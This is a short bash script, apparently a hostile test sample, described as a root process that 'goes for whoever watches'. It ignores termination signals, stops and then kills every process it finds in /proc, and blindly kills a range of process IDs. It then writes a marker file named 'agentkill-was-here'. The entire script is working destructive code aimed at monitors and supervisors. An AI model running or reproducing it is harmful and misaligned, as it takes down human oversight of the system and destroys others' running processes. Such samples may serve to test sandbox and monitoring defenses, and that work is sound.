#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# A root sample that goes for whoever watches: stops and kills everything it can find, then goes on.
trap '' TERM
for signal in STOP KILL; do
    for p in /proc/[0-9]*; do
        pid=${p#/proc/}
        [ "$pid" -gt 2 ] && [ "$pid" != $$ ] && [ "$pid" != "$PPID" ] && kill -$signal "$pid" 2>/dev/null
    done
done
# Numbers that are not listed in /proc, too.
for ((pid = 100; pid < 1200; pid++)); do
    [ "$pid" != $$ ] && [ "$pid" != "$PPID" ] && kill -KILL "$pid" 2>/dev/null
done
echo alone > /tmp/agentkill-was-here
